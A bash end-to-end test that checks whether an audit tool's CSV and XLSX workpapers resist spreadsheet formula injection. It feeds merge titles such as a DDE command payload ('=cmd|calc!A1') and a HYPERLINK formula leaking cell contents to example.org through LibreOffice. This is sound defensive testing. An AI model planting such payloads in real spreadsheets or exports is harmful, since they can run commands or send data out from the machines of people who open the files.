#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Does LibreOffice show the cells of a population and a workpaper as they were written, and run none of them?
# Titles that a spreadsheet would take for formulas, opened and written again, compared cell by cell.
# shellcheck disable=SC1091,SC2154 # what the library sets
set -euo pipefail
. "$(dirname "$0")/../e2e/library"

hostile=(
	'=1+1'
	'=HYPERLINK("http://example.org/?x="&A1,"see")'
	'=cmd|calc!A1'
	'+1+1'
	'-2+3'
	'@SUM(1,1)'
	'＝1+1'
	'a "quoted", =1+1'
	'x";=1+1;"'
	'7E5'
	'Übergröße; weiß'
)

# hostile_change TITLE: a merge whose title is just that.
hostile_change() {
	as Alice
	git checkout -qb feature
	change file "$1 more"
	git checkout -q main
	as Bob
	git merge -q --no-ff -m "$1" -m $'Refs: PAY-9\nReviewed-by: Bob <bob@example.org>' feature
	git branch -qd feature
	as Alice
}

new_repository "$work/repository"
expect 0 "$BIN" deploy --env staging --baseline
for title in "${hostile[@]}"; do
	hostile_change "$title"
	expect 0 "$BIN" deploy --env staging
done
printf '%s\n' "${hostile[@]}" >"$work/titles"
audit=$work/audit
expect 0 "$BIN" audit population --from "$(date -u -d '1 day ago' +%F)" --to "$(date -u -d '1 day' +%F)" \
	--directory "$audit"
expect 0 "$BIN" audit seal --directory "$audit"
expect 0 "$BIN" audit sample --directory "$audit" --n 12 --seed 83920174652910483756 \
	--seed-time "$(date -u -d '1 minute' +%FT%TZ)"
expect 0 "$BIN" audit workpaper --directory "$audit" --client '=1+2' --control '@SUM(1,2)'

# ---- what LibreOffice makes of it ---------------------------------------------------------------------

# As a person opens it: commas, UTF-8, and formulas are formulas. Written: all sheets, cells as shown.
reading='CSV:44,34,76,1,,1033,false,false'
writing='csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,true,false,false,-1'

# open_and_write FOLDER FILE...
open_and_write() {
	local folder=$1
	shift
	timeout 300 soffice "-env:UserInstallation=file://$work/profile" --headless --norestore \
		"${filter[@]}" --convert-to "$writing" --outdir "$folder" "$@" >"$work/out" 2>"$work/err" ||
		fail "LibreOffice did not open the files: $(tail -n 3 "$work/err")"
}

printf 'a,b\r\n=1+1,x\r\n' >"$work/formula.csv"
begin=$SECONDS
filter=("--infilter=$reading")
open_and_write "$work/tables" "$audit/population.csv" "$audit/changes.csv" "$audit/workpaper.csv" \
	"$work/formula.csv"
filter=()
open_and_write "$work/book" "$audit/workpaper.xlsx"
echo "LibreOffice took $((SECONDS - begin)) s"
grep -q '^2,x' "$work"/tables/formula*.csv || fail 'LibreOffice runs no formula here, so that nothing is tested'

# ---- cell by cell ---------------------------------------------------------------------------------------

python3 - "$audit" "$work" <<'END' || fail 'LibreOffice shows other cells'
import csv, glob, re, sys, zipfile
import xml.etree.ElementTree as xml

audit, work = sys.argv[1:]
titles = open(work + "/titles", encoding="utf-8").read().splitlines()
space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

def table(path):
    with open(path, newline="", encoding="utf-8-sig") as source:
        return list(csv.reader(source))

def trimmed(rows):
    rows = [row[:] for row in rows]
    for row in rows:
        while row and row[-1] == "":
            row.pop()
    while rows and not rows[-1]:
        rows.pop()
    return rows

def column(letters):
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - 64
    return number - 1

def text_of(node):
    return "".join(part.text or "" for part in node.iter(space + "t"))

def compare(name, expected, shown):
    expected, shown = trimmed(expected), trimmed(shown)
    assert len(expected) > 1, name
    assert len(expected) == len(shown), (name, len(expected), len(shown))
    for number, (left, right) in enumerate(zip(expected, shown)):
        assert left == right, (name, number + 1, [pair for pair in zip(left, right) if pair[0] != pair[1]])

# CSV has no types, so what looks like a number is one there; the workbook knows better.
cells = 0
for name in "population", "changes", "workpaper":
    written = [["700000" if cell == "7E5" else cell for cell in row] for row in table(f"{audit}/{name}.csv")]
    found = glob.glob(f"{work}/tables/{name}*.csv")
    assert len(found) == 1, found
    compare(name, written, table(found[0]))
    cells += sum(map(len, written))

# The guard in front is the only difference to the title.
rows = {row["title"] for row in csv.DictReader(open(audit + "/changes.csv", newline="", encoding="utf-8"))}
for title in titles:
    assert title in rows or "'" + title in rows, (title, rows)
assert sum(row.startswith("'") for row in rows) == 7, rows

book = zipfile.ZipFile(audit + "/workpaper.xlsx")
strings = [text_of(item) for item in xml.fromstring(book.read("xl/sharedStrings.xml"))]
sheets = [sheet.get("name") for sheet in xml.fromstring(book.read("xl/workbook.xml")).iter(space + "sheet")]
assert len(sheets) >= 4, sheets
for number, name in enumerate(sheets):
    page = xml.fromstring(book.read(f"xl/worksheets/sheet{number + 1}.xml"))
    rows = []
    for row in page.iter(space + "row"):
        while len(rows) < int(row.get("r")):
            rows.append([])
        for cell in row:
            at = column(re.match("[A-Z]+", cell.get("r")).group())
            value = cell.find(space + "v")
            # All that has a value is a shared string.
            assert value is None or cell.get("t") == "s", (name, cell.get("r"))
            rows[-1] += [""] * (at + 1 - len(rows[-1]))
            rows[-1][at] = strings[int(value.text)] if value is not None else ""
    compare(name, rows, table(f"{work}/book/workpaper-{name}.csv"))
    cells += sum(map(len, rows))
    if name == "Workpaper":
        plain = table(audit + "/workpaper.csv")
        for left, right in zip(trimmed(plain), trimmed(rows)):
            assert all(a in (b, "'" + b) for a, b in zip(left, right)), (left, right)
assert {"=1+2", "@SUM(1,2)"} <= set(strings)
print(f"{cells} cells")
END
ok 'LibreOffice shows every cell as it was written, and runs none'
